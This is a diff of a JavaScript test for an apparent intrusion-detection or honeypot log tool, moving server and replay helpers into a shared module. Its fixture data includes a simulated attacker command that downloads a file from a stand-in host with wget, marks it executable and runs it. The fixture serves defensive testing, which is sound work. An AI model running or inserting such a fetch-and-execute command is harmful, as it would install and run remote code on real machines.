@@ -1,10 +1,11 @@
 // A story on the real program: a burst arrives, is noticed, opened, understood, its address followed, narrowed by a filter, exported and shared; once with
 // keys at a desk, once on a phone. Every number is counted again from the logs themselves, by `normalize`.
-import { execFileSync, spawn } from 'node:child_process';
-import { mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
+import { execFileSync } from 'node:child_process';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { OUT, axe, check, clean, openPage, same, skip, test, text, until } from './harness.mjs';
+import { MAX_BUFFER, logs, send, serve } from './program.mjs';
 import { ready } from './state_page.mjs';
 
 const ROWS = '20000';
@@ -12,7 +13,6 @@ const SEED = String(Number(process.env.HG_SEED ?? 7) % 100000);
 const ATTACKER = '198.51.100.7';
 const SESSION = 'a1b94c7702de';
 const BUDGET = ['--false-alarm-rate', '0.003'];
-const MAX_BUFFER = 1 << 30;
 const PASSWORDS = 60;
 const COMMANDS = ['uname -a', 'cat /proc/cpuinfo', 'cd /tmp; wget http://203.0.113.80/a; chmod +x a; ./a'];
 
@@ -32,10 +32,6 @@ function writeBurst(file, from) {
   writeFileSync(file, lines.map((line) => JSON.stringify(line)).join('\n') + '\n');
 }
 
-function logs(folder) {
-  return readdirSync(folder).filter((name) => name !== 'truth.csv').sort().map((name) => path.join(folder, name));
-}
-
 function prepare(binary, work) {
   const run = (...parameters) => execFileSync(binary, parameters, { maxBuffer: MAX_BUFFER, stdio: ['ignore', 'pipe', 'pipe'], encoding: 'utf8' });
   const show = path.join(work, 'show');
@@ -48,21 +44,6 @@ function prepare(binary, work) {
   writeBurst(burst, last + 60_000);
   const own = run('normalize', burst).trimEnd().split('\n').map((line) => JSON.parse(line));
   return { files: logs(show), burst, model: path.join(work, 'model'), events: [...calm, ...own] };
-}
-
-async function serve(binary, work, sample) {
-  const child = spawn(binary, ['serve', '--state', path.join(work, 'state'), '--listen', '127.0.0.1:0', '--model', sample.model, ...BUDGET], { stdio: ['ignore', 'pipe', 'pipe'] });
-  let said = '';
-  child.stdout.on('data', (bytes) => (said += bytes));
-  child.stderr.on('data', (bytes) => (said += bytes));
-  await until('the server', () => /http:\/\/127\.0\.0\.1:\d+/.test(said) || child.exitCode !== null);
-  const url = /http:\/\/127\.0\.0\.1:\d+/.exec(said)?.[0];
-  if (url === undefined) throw new Error(`serve: ${said}`);
-  return { child, url };
-}
-
-function send(binary, url, files) {
-  execFileSync(binary, ['replay', '--to', url, '--speed', 'max', ...files], { stdio: ['ignore', 'ignore', 'pipe'], maxBuffer: MAX_BUFFER });
 }
 
 const number = (words) => Number(words.replace(/[^0-9]/g, ''));
@@ -171,7 +152,7 @@ export async function deskReal(browser, binary) {
   let server = null;
   try {
     const sample = prepare(path.resolve(binary), work);
-    server = await serve(path.resolve(binary), work, sample);
+    server = await serve(path.resolve(binary), work, sample.model, BUDGET);
     const { url } = server;
     if ((await fetch(`${url}/api/v1/incidents`)).status === 404) return skip('the desk on the real program', 'this server knows of no incidents');
     send(binary, url, sample.files);
